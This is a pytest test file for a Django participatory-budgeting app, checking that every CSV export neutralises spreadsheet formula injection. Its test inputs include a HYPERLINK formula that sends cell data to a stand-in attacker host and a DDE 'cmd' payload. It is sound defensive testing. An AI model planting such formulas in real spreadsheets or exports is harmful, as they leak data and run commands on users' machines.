"""Issue 13, item 6: no CSV the project writes carries a live spreadsheet formula.

A proposal titled ``=HYPERLINK(...)`` came out as a formula in the audit CSV and the
councillors' report CSV; every writer now goes through ``backend.exports``.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.urls import reverse

from backend.exports import csv_writer, neutralise
from feedback import tasks
from pb.counting.models import Tally
from pb.proposals.models import Proposal
from pb.services.audit import audit

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
ROOT = Path(__file__).resolve().parents[2]


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    "cell", [EVIL, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(cell: str) -> None:
    out = io.StringIO()
    csv_writer(out).writerow([cell, "plain", 7, -3])
    row = _rows(out.getvalue())[0]
    assert row == ["'" + cell, "plain", "7", "-3"]


@pytest.mark.parametrize("cell", ["New benches", "", "a=b", "3 - 2", 12, None])
def test_ordinary_cells_are_left_as_they_are(cell: Any) -> None:
    assert neutralise(cell) == cell


def test_no_module_writes_csv_without_the_helper() -> None:
    """Every CSV goes through ``backend.exports.csv_writer``: a new ``csv.writer`` elsewhere
    would bring formula injection back."""
    offenders = []
    for package in ("backend", "pb", "feedback", "deliberation"):
        for path in (ROOT / package).rglob("*.py"):
            if path.name == "exports.py" and path.parent.name == "backend":
                continue
            if re.search(r"csv\.(writer|DictWriter)\(", path.read_text()):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


@pytest.mark.django_db
def test_the_audit_csv_shows_a_formula_title_as_text(client: Any) -> None:
    from tests.pb.conftest import World

    world = World()
    proposal = Proposal.objects.create(
        round=world.round, area=world.north, title=EVIL, description="…", estimated_cost=100
    )
    audit(
        actor=world.manager,
        action="proposal.review",
        round=world.round,
        proposal=proposal,
        reason="+44 1234",
    )
    client.force_login(world.councillor)
    text = client.get(reverse("audit_log", args=[world.round.slug]), {"format": "csv"})
    row = _rows(text.content.decode())[1]
    assert row[3] == "'" + EVIL and row[5] == "'+44 1234"


@pytest.mark.django_db
def test_the_councillors_report_csv_shows_a_formula_title_as_text(
    client: Any, django_capture_on_commit_callbacks: Any
) -> None:
    from tests.feedback.conftest import Counted

    counted = Counted()
    Proposal.objects.filter(pk=counted.lights.pk).update(title=EVIL)
    tally = Tally.objects.get(pk=counted.north_tally.pk)
    tally.outcome["projects"][str(counted.lights.pk)]["title"] = EVIL
    tally.save(update_fields=["outcome"])
    with django_capture_on_commit_callbacks(execute=True):
        tasks.outcome_pipeline.delay(counted.round.pk)
    client.force_login(counted.councillor)
    data = client.get(reverse("outcome_report_file", args=["city-2027", "csv"]))
    rows = _rows(data.content.decode())
    titles = [r[1] for r in rows if r[0] == "project"]
    assert "'" + EVIL in titles and EVIL not in titles
    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)


@pytest.mark.django_db
def test_the_voter_code_mail_merge_file_is_neutralised(tmp_path: Path) -> None:
    from tests.pb.conftest import World

    world = World()
    world.north.slug = "-north"
    world.north.save()
    out = tmp_path / "codes.csv"
    call_command(
        "issue_voter_codes",
        str(world.round.pk),
        "--count",
        "2",
        "--area=-north",
        "--out",
        str(out),
    )
    rows = _rows(out.read_text())
    assert [r[1] for r in rows[1:]] == ["'-north", "'-north"]
